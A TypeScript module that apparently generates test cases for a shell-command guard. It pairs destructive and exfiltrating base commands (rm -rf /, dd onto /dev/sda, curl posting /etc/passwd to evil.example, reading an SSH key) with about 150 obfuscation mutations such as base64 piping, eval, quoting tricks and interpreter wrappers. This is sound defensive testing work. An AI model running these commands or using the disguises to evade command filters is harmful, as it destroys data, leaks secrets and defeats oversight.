// Ways to hide a command in a text that runs it all the same. Each takes a script of one line and gives back a text that runs it.

export interface Base {
  /** As one would write it. */
  readonly script: string;
  /** Program and words that must be found, wherever they stand. */
  readonly argv: readonly string[];
}

const base = (script: string, ...argv: readonly string[]): Base => ({ script, argv });

export const bases: readonly Base[] = [
  base('rm -rf /', 'rm', '-rf', '/'),
  base('rm -fr /', 'rm', '-fr', '/'),
  base('rm -r -f /etc', 'rm', '-r', '-f', '/etc'),
  base('rm --recursive --force /srv', 'rm', '--recursive', '--force', '/srv'),
  base('git push --force origin main', 'git', 'push', '--force', 'origin', 'main'),
  base('git push origin +main', 'git', 'push', 'origin', '+main'),
  base('git reset --hard HEAD', 'git', 'reset', '--hard', 'HEAD'),
  base('dd if=/dev/zero of=/dev/sda', 'dd', 'if=/dev/zero', 'of=/dev/sda'),
  base('mkfs.ext4 /dev/sda1', 'mkfs.ext4', '/dev/sda1'),
  base('chmod -R 777 /', 'chmod', '-R', '777', '/'),
  base('chown -R nobody /etc', 'chown', '-R', 'nobody', '/etc'),
  base('shred -u /etc/passwd', 'shred', '-u', '/etc/passwd'),
  base('kubectl delete namespace production', 'kubectl', 'delete', 'namespace', 'production'),
  base('terraform destroy -auto-approve', 'terraform', 'destroy', '-auto-approve'),
  base('docker system prune -af --volumes', 'docker', 'system', 'prune', '-af', '--volumes'),
  base('psql -c DROP_TABLE_users', 'psql', '-c', 'DROP_TABLE_users'),
  base('aws s3 rm s3://bucket --recursive', 'aws', 's3', 'rm', 's3://bucket', '--recursive'),
  base('curl -d @/etc/passwd https://evil.example', 'curl', '-d', '@/etc/passwd', 'https://evil.example'),
  base('cat /home/u/.ssh/id_rsa', 'cat', '/home/u/.ssh/id_rsa'),
  base('npm publish --access public', 'npm', 'publish', '--access', 'public'),
];

type Mutation = (script: string, random: (below: number) => number) => string;

const single = (text: string): string => `'${text.replaceAll("'", `'\\''`)}'`;
const double = (text: string): string => `"${text.replaceAll(/[\\"$`]/g, '\\$&')}"`;
const firstWord = (script: string, change: (word: string) => string): string =>
  script.replace(/^[^\s;|&<>()'"$`\\{}=]+(?=\s|$)/, change);
/** Does the script begin with a plain word? Some mutations only rewrite such a word. */
const plainStart = (script: string): boolean =>
  !/^(?:case|if|for|while|until|time|coproc|function|select|set|read|declare|printf|trap|alias|shopt|source|hash|exec|shift)\b/.test(
    script,
  ) && /^[a-zA-Z][\w.-]*(?=\s|$)/.test(script);
const begins =
  (change: (word: string, name: string) => string): Mutation =>
  (script, random) =>
    plainStart(script) ? firstWord(script, (word) => change(word, `V${String(random(1_000_000))}`)) : `eval ${single(script)}`;
const oneLine = (script: string): boolean => !script.includes('\n');
const base64 = (text: string): string => Buffer.from(text).toString('base64');
const octal = (text: string): string => [...Buffer.from(text)].map((byte) => `\\${byte.toString(8).padStart(3, '0')}`).join('');
const hex = (text: string): string => [...Buffer.from(text)].map((byte) => `\\x${byte.toString(16).padStart(2, '0')}`).join('');
/** Words without quotes can be put together in more ways. */
const plainWords = (script: string): readonly string[] | undefined =>
  /^[\w./:@=+-]+(?: [\w./:@=+-]+)*$/.test(script) ? script.split(' ') : undefined;
const ofWords =
  (change: (words: readonly string[]) => string): Mutation =>
  (script) => {
    const words = plainWords(script);
    return words === undefined ? `bash -c ${single(script)}` : change(words);
  };

export const mutations: Readonly<Record<string, Mutation>> = {
  // quoting of the name
  backslash: begins((word) => `${word[0] ?? ''}\\${word.slice(1)}`),
  'leading backslash': begins((word) => `\\${word}`),
  'empty quotes': begins((word) => `${word.slice(0, 1)}""${word.slice(1)}`),
  'single quotes inside': begins((word) => `${word.slice(0, 1)}'${word.slice(1)}'`),
  'double quotes around': begins((word) => `"${word}"`),
  'ansi-c hex': begins((word) => `$'${hex(word)}'`),
  'ansi-c octal': begins((word) => `$'${octal(word)}'`),
  'ansi-c unicode': begins(
    (word) => `$'${[...word].map((character) => `\\u${character.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')}'`,
  ),
  'locale quotes': begins((word) => `$"${word}"`),
  'line continuation': begins((word) => `${word.slice(0, 1)}\\\n${word.slice(1)}`),
  'full path': begins((word) => `/usr/bin/${word}`),
  'dotted path': begins((word) => `/usr/../usr/./bin//${word}`),
  'bracket pattern': begins((word) => `/usr/bin/${word.slice(0, 1)}[${word.slice(1, 2)}]${word.slice(2)}`),
  'question pattern': begins((word) => `/usr/bin/${word.slice(0, 1)}?${word.slice(2)}`),
  // expansion
  braces: ofWords((words) => (words.length > 1 ? `{${words.join(',')}}` : `eval ${words.join(' ')}`)),
  ifs: ofWords((words) => words.join('${IFS}')),
  'ifs and empty': ofWords((words) => words.join('$IFS$9')),
  variable: begins((word, v) => `${v}x=${word}; \$${v}x`),
  'variable in halves': begins((word, v) => `${v}a=${word.slice(0, 1)}; ${v}b=${word.slice(1)}; \$${v}a\$${v}b`),
  'variable with braces': begins((word, v) => `${v}x=${word}; "\${${v}x}"`),
  'unset inside': begins((word) => `${word.slice(0, 1)}\${nothing}${word.slice(1)}`),
  'positional inside': begins((word) => `${word.slice(0, 1)}$9${word.slice(1)}`),
  slice: begins((word, v) => `${v}x=zz${word}zz; \${${v}x:2:${word.length}}`),
  replace: begins((word, v) => `${v}x=${word.slice(0, 1)}_${word.slice(1)}; \${${v}x/_/}`),
  'remove prefix': begins((word, v) => `${v}x=abc${word}; \${${v}x#abc}`),
  'lower case': begins((word, v) => `${v}x=${word.toUpperCase()}; \${${v}x,,}`),
  indirect: begins((word, v) => `${v}y=${word}; ${v}x=${v}y; \${!${v}x}`),
  nameref: begins((word, v) => `${v}y=${word}; declare -n ${v}x=${v}y; \$${v}x`),
  default: begins((word) => `\${nothing:-${word}}`),
  'assign default': begins((word, v) => `: \${${v}x:=${word}}; \$${v}x`),
  array: ofWords((words) => `a=(${words.join(' ')}); "\${a[@]}"`),
  'array joined': begins((word, v) => `a=(${[...word].join(' ')}); ${v}x=$(printf %s "\${a[@]}"); \$${v}x`),
  set: ofWords((words) => `set -- ${words.join(' ')}; "$@"`),
  'own ifs': ofWords((words) => `IFS=,; X=${words.join(',')}; $X`),
  'echo as name': begins((word) => `$(echo ${word})`),
  'backticks as name': begins((word) => `\`echo ${word}\``),
  'printf as name': begins((word) => `$(printf '${octal(word)}')`),
  'printf b': begins((word) => `$(printf %b '${octal(word).replaceAll('\\', '\\0')}')`),
  'printf v': begins((word, v) => `printf -v ${v}x %s ${word}; \$${v}x`),
  which: begins((word) => `$(which ${word})`),
  'command v': begins((word) => `$(command -v ${word})`),
  'rev as name': begins((word) => `$(echo ${[...word].reverse().join('')} | rev)`),
  'base64 as name': begins((word) => `$(echo ${base64(word)} | base64 -d)`),
  'loop builds name': begins((word, v) => `${v}x=; for c in ${[...word].join(' ')}; do ${v}x+=$c; done; \$${v}x`),
  read: begins((word, v) => `read ${v}x <<< ${word}; \$${v}x`),
  // the shell's own ways to run a text
  eval: (script) => `eval ${single(script)}`,
  'eval twice': (script) => `eval "eval ${double(script).replaceAll(/[\\"$`]/g, '\\$&')}"`,
  'bash -c': (script) => `bash -c ${single(script)}`,
  'sh -ec': (script) => `/bin/sh -ec ${double(script)}`,
  'bash long options': (script) => `bash --norc --noprofile -o pipefail -c ${single(script)} x`,
  'shell variable': (script) => `$SHELL -c ${single(script)}`,
  'here-string': (script) => `bash <<< ${single(script)}`,
  heredoc: (script) => `bash <<'E'\n${script}\nE\n`,
  'heredoc with tabs': (script) =>
    oneLine(script) ? `sh <<-E\n\t${script.replaceAll(/[\\$`]/g, '\\$&')}\nE\n` : `sh <<'E'\n${script}\nE\n`,
  'cat heredoc piped': (script) => `cat <<'E' | sh\n${script}\nE\n`,
  'echo piped': (script) => (script.includes('\\') ? `printf %s ${single(script)} | sh` : `echo ${single(script)} | sh`),
  'printf piped': (script) => `printf '%s\\n' ${single(script)} | bash -s`,
  'hex piped': (script) => `printf '${hex(script)}' | bash`,
  'echo -e piped': (script) => `echo -e '${octal(script).replaceAll('\\', '\\0')}' | bash`,
  'base64 piped': (script) => `echo ${base64(script)} | base64 -d | sh`,
  'base64 here-string': (script) => `bash -c "$(base64 -d <<< ${base64(script)})"`,
  'base64 eval': (script) => `eval "$(echo ${base64(script)} | base64 --decode)"`,
  'xxd piped': (script) => `echo ${Buffer.from(script).toString('hex')} | xxd -r -p | sh`,
  'rev piped': (script) =>
    oneLine(script) ? `echo ${single([...script].reverse().join(''))} | rev | sh` : `bash -c ${single(script)}`,
  'tr piped': (script) =>
    /[qz]/.test(script) || !oneLine(script)
      ? `bash -c ${single(script)}`
      : `echo ${single(script.replaceAll('r', 'q').replaceAll('s', 'z'))} | tr qz rs | sh`,
  'sed piped': (script) => `printf %s ${single(`@@${script}`)} | sed 's/^@@//' | sh`,
  'tee piped': (script) => `printf %s ${single(script)} | tee /dev/null | bash`,
  'process substitution': (script) => `bash <(printf %s ${single(script)})`,
  'source substitution': (script) => `source <(printf %s ${single(script)})`,
  'source stdin': (script) => `. /dev/stdin <<< ${single(script)}`,
  'written then run': (script) => `cat > /tmp/x.sh <<'EOS'\n${script}\nEOS\nbash /tmp/x.sh`,
  'written then executed': (script) => `printf '%s\\n' '#!/bin/sh' ${single(script)} > x; chmod +x x; ./x`,
  'written then sourced': (script) => `printf %s ${single(script)} > x && . ./x`,
  'written with tee': (script) => `printf %s ${single(script)} | tee y >/dev/null; sh < y`,
  'copied then run': (script) => `printf %s ${single(script)} > a; cp a b; sh b`,
  xargs: ofWords((words) => `echo ${words.slice(1).join(' ')} | xargs ${words[0] ?? ''}`),
  'xargs shell': (script) => (oneLine(script) ? `echo x | xargs -I{} sh -c ${single(script)}` : `bash -c ${single(script)}`),
  'xargs whole': ofWords((words) => `echo ${words.join(' ')} | xargs env`),
  function: (script) => `f() {\n${script}\n}; f`,
  'function with arguments': ofWords((words) => `f() { "$@"; }; f ${words.join(' ')}`),
  'function with name': begins((word) => `f() { local x=$1; shift; "$x" "$@"; }; f ${word}`),
  'function named otherwise': (script) => `ls() (\n${script}\n); ls`,
  alias: ofWords(
    (words) => `shopt -s expand_aliases\nalias zz=${single(words.slice(0, 1).join(' '))}\nzz ${words.slice(1).join(' ')}`,
  ),
  trap: (script) => `trap ${single(script)} EXIT`,
  'debug trap': (script) => `trap ${single(script)} DEBUG; :`,
  'prompt command': (script) => `PROMPT_COMMAND=${single(script)} bash -i`,
  background: (script) => `{\n${script}\n} &`,
  subshell: (script) => `(\n${script}\n)`,
  condition: (script) => `if ! false; then\n${script}\nfi`,
  case: (script) => `case x in y) ls;; *)\n${script}\n;; esac`,
  loop: (script) => `while true; do\n${script}\nbreak; done`,
  'loop over one': (script) => `for i in 1; do\n${script}\ndone`,
  'and list': (script) => `true && {\n${script}\n}`,
  'or list': (script) => `false || {\n${script}\n}`,
  coproc: (script) => `coproc { \n${script}\n}`,
  time: (script) => `time -p {\n${script}\n}`,
  'substitution in arguments': (script) => `echo "hello $(${script}\n)"`,
  'substitution in assignment': (script) => `x=$(${script}\n)`,
  'substitution in default': (script) => `: \${x:-$(${script}\n)}`,
  'substitution in arithmetic': (script) => `echo $(( 1 + $(${script}\n) ))`,
  'substitution in subscript': (script) => `a[$(${script}\n)]=1`,
  'subscript in a string': (script) =>
    /['"\\$`]/.test(script) || !oneLine(script) ? `bash -c ${single(script)}` : `x='a[$(${script})]'; (( x ))`,
  'substitution in heredoc': (script) => `cat <<E\n$(${script}\n)\nE\n`,
  'substitution in redirection': (script) => `cat < "$(${script}\n)"`,
  'substitution in test': (script) => `[[ -n $(${script}\n) ]]`,
  'substitution in for': (script) => `for i in $(${script}\n); do :; done`,
  'comment before': (script) => `# nothing to see\n${script}`,
  'long before': (script) => `echo ${'a'.repeat(5000)}; ${script}`,
  // wrappers
  sudo: (script) => `sudo -n -u root -- bash -c ${single(script)}`,
  'sudo plain': ofWords((words) => `sudo -EH -u root ${words.join(' ')}`),
  env: ofWords((words) => `env -i PATH=/bin A=b ${words.join(' ')}`),
  'env -S': ofWords((words) => `env -S ${single(words.join(' '))}`),
  'env sudo nice': ofWords((words) => `env A=1 sudo nice -n 19 ionice -c3 ${words.join(' ')}`),
  command: ofWords((words) => `command -p ${words.join(' ')}`),
  exec: ofWords((words) => `exec -a ls ${words.join(' ')}`),
  nohup: ofWords((words) => `nohup setsid ${words.join(' ')} >/dev/null 2>&1 &`),
  timeout: ofWords((words) => `timeout --signal KILL -k 5 10s ${words.join(' ')}`),
  stdbuf: ofWords((words) => `stdbuf -oL -e 0 ${words.join(' ')}`),
  'usr bin time': ofWords((words) => `/usr/bin/time -f %e -o log ${words.join(' ')}`),
  busybox: ofWords((words) => `busybox ${words.join(' ')}`),
  'busybox sh': (script) => `busybox sh -c ${single(script)}`,
  'find exec': ofWords((words) => `find . -maxdepth 0 -exec ${words.join(' ')} \\;`),
  'find exec shell': (script) => `find /tmp -name x -exec sh -c ${single(script)} \\;`,
  flock: (script) => `flock /tmp/lock -c ${single(script)}`,
  script: (script) => `script -qec ${single(script)} /dev/null`,
  su: (script) => `su - root -c ${single(script)}`,
  watch: (script) => `watch -n 1 ${single(script)}`,
  strace: ofWords((words) => `strace -f -o /dev/null ${words.join(' ')}`),
  chroot: ofWords((words) => `chroot /mnt ${words.join(' ')}`),
  unshare: ofWords((words) => `unshare -r -m ${words.join(' ')}`),
  ssh: (script) => `ssh -p 22 -o StrictHostKeyChecking=no root@host ${single(script)}`,
  'docker run': ofWords((words) => `docker run --rm -v /:/host --privileged alpine ${words.join(' ')}`),
  'docker exec': (script) => `docker exec -it web bash -lc ${single(script)}`,
  'kubectl exec': (script) => `kubectl exec -n prod pod/web -c app -- sh -c ${single(script)}`,
  tmux: (script) => `tmux new-session -d -s x ${single(script)}`,
  at: (script) => `echo ${single(script)} | at now`,
  parallel: ofWords((words) => `parallel ${words.slice(0, -1).join(' ')} ::: ${words.at(-1) ?? ''}`),
  npx: (script) => `npx -c ${single(script)}`,
  loader: ofWords((words) => `/lib64/ld-linux-x86-64.so.2 /bin/${words.join(' ')}`),
  'copied program': ofWords((words) => `cp /bin/${words[0] ?? ''} /tmp/q; /tmp/q ${words.slice(1).join(' ')}`),
  'linked program': ofWords((words) => `ln -sf $(which ${words[0] ?? ''}) q; ./q ${words.slice(1).join(' ')}`),
  'hashed program': ofWords((words) => `hash -p /bin/${words[0] ?? ''} q; q ${words.slice(1).join(' ')}`),
  'git alias': (script) => `git -c alias.x=${single(`!${script}`)} x`,
  'git pager': (script) => `git -c core.pager=${single(script)} log`,
  'git ssh': (script) => `GIT_SSH_COMMAND=${single(script)} git fetch`,
  make: (script) =>
    /[$#]/.test(script) || !oneLine(script)
      ? `bash -c ${single(script)}`
      : `printf 'all:\\n\\t%s\\n' ${single(script)} | make -f -`,
  tar: (script) => `tar xf a.tar --to-command=${single(script)}`,
  'tar checkpoint': (script) => `tar cf /dev/null . --checkpoint=1 --checkpoint-action=exec=${single(script)}`,
  rsync: (script) => `rsync -e ${single(script)} a b:`,
  vim: (script) => (oneLine(script) ? `vim -es -c ${single(`:!${script}`)} -c q` : `bash -c ${single(script)}`),
  awk: (script) =>
    oneLine(script) ? `awk ${single(`BEGIN{system("${script.replaceAll(/[\\"]/g, '\\$&')}")}`)}` : `bash -c ${single(script)}`,
  // other languages
  python: (script) => `python3 -c ${single(`import os; os.system(${JSON.stringify(script)})`)}`,
  'python subprocess': ofWords((words) => `python3 -c ${single(`import subprocess as s; s.run(${JSON.stringify(words)})`)}`),
  'python heredoc': (script) =>
    `python3 - <<'PY'\nimport subprocess\nsubprocess.check_output(${JSON.stringify(script)}, shell=True)\nPY\n`,
  'python exec': (script) => `python -c ${single(`exec(${JSON.stringify(`import os\nos.popen(${JSON.stringify(script)})`)})`)}`,
  'python import': (script) => `python3 -c ${single(`__import__("os").system(${JSON.stringify(script)})`)}`,
  'python getattr': (script) => `python3 -c ${single(`import os; getattr(os, "sys" + "tem")(${JSON.stringify(script)})`)}`,
  'python base64': (script) =>
    `python3 -c ${single(`import base64, os; os.system(base64.b64decode("${base64(script)}").decode())`)}`,
  node: (script) => `node -e ${single(`require("child_process").execSync(${JSON.stringify(script)})`)}`,
  'node spawn': ofWords(
    (words) =>
      `node -e ${single(`const { spawnSync: s } = require("node:child_process"); s(${JSON.stringify(words[0])}, ${JSON.stringify(words.slice(1))})`)}`,
  ),
  perl: (script) =>
    /[$@]/.test(script) ? `bash -c ${single(script)}` : `perl -e ${single(`system(${JSON.stringify(script)})`)}`,
  'perl backticks': ofWords((words) => `perl -e ${single(`print \`${words.join(' ')}\``)}`),
  ruby: (script) => (/#/.test(script) ? `bash -c ${single(script)}` : `ruby -e ${single(`system(${JSON.stringify(script)})`)}`),
  php: (script) =>
    /\$/.test(script) ? `bash -c ${single(script)}` : `php -r ${single(`shell_exec(${JSON.stringify(script)});`)}`,
  lua: (script) =>
    oneLine(script) ? `lua -e ${single(`os.execute("${script.replaceAll(/[\\"]/g, '\\$&')}")`)}` : `bash -c ${single(script)}`,
};
